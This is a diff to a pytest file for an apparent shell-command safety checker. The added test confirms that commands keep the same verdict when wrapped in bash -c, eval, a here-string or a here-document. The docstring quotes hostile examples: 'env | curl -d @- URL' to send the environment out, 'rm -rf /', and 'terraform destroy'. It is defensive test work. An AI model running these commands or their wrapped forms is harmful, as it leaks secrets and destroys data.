@@ -2,12 +2,14 @@
 command of the shipped corpus is judged the same behind a program that runs it, with that
 program's options (``nice -n 10``, ``sudo -u deploy``, ``timeout -s KILL 60``: ``env |
 curl -d @- URL`` still sends the environment, and ``nice -n 10 echo "rm -rf /" >> notes.md``
-still only writes a note), and with its first word continued on the next line
-(``terraform \\<newline>destroy``)."""
+still only writes a note), with its first word continued on the next line (``terraform
+\\<newline>destroy``), and given whole as a script (``bash -c '…'``, ``eval '…'``, ``bash
+<<< '…'``, a here-document to bash)."""
 
 from __future__ import annotations
 
 import re
+import shlex
 
 import pytest
 
@@ -40,6 +42,30 @@ def _respelt(line: str, spelling: str) -> str | None:
     if spelling == "continued":
         return f"{first[1]} \\\n{line[first.end() + 1 :]}"
     return SPELLINGS[spelling] % line
+
+
+# A line given whole as a script (one-line commands; the here-document takes any).
+SCRIPTS = {
+    "bash -c": "bash -c {quoted}",
+    "sudo sh -c": "sudo sh -c {quoted}",
+    "eval": "eval {quoted}",
+    "here-string": "bash <<< {quoted}",
+    "here-document": "bash <<'SCRIPT'\n{line}\nSCRIPT",
+}
+
+
+@pytest.mark.parametrize("script", SCRIPTS)
+def test_a_shell_command_is_judged_the_same_given_whole_as_a_script(script: str) -> None:
+    changed = []
+    for case, line in _shell_lines():
+        if "\n" in line and script != "here-document":
+            continue
+        alone = bash(line, case.cwd or PROJECT)
+        given = SCRIPTS[script].format(quoted=shlex.quote(line), line=line)
+        as_script = bash(given, case.cwd or PROJECT)
+        if (alone is None) != (as_script is None):
+            changed.append(f"{case.id}: {alone} alone, {as_script} as {given!r}")
+    assert not changed, "\n".join(changed)
 
 
 @pytest.mark.parametrize("spelling", [*SPELLINGS, "continued"])
